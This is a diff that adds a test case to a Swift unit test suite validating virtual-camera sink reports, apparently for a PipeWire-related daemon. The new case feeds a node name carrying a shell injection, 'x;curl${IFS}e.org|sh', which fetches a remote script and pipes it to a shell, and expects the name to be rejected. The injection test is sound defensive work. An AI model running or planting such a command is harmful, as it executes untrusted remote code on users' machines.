@@ -77,6 +77,8 @@ struct SinkReportTests {
             (Self.report(Self.sink("viewed", "foldcam.viewed", "idle", reason: "why")), "only an unavailable sink has a reason"),
             (Self.report(Self.sink("viewed", "foldcam\u{1b}[2J", "idle")), "params.sinks[0].node: \"foldcam\\u{1b}[2J\" must be 1 to 128 bytes of printable text"),
             (Self.report(Self.sink("viewed", String(repeating: "n", count: 129), "idle")), "params.sinks[0].node:"),
+            // Shell syntax: the name is shown to other users inside a suggested command.
+            (Self.report(Self.sink("viewed", "x;curl${IFS}e.org|sh", "idle")), "is not a PipeWire node name (letters, digits and . _ : - only)"),
             (Self.report(.object([("virtualCamera", .string("viewed")), ("nodes", .string("x")), ("state", .string("idle"))])), "unknown member \"nodes\"; did you mean \"node\"?"),
             (Self.report(Self.sink("viewed", "a", "idle"), Self.sink("viewed", "b", "idle")), "2 sinks, but this daemon has 1 virtual camera"),
         ]
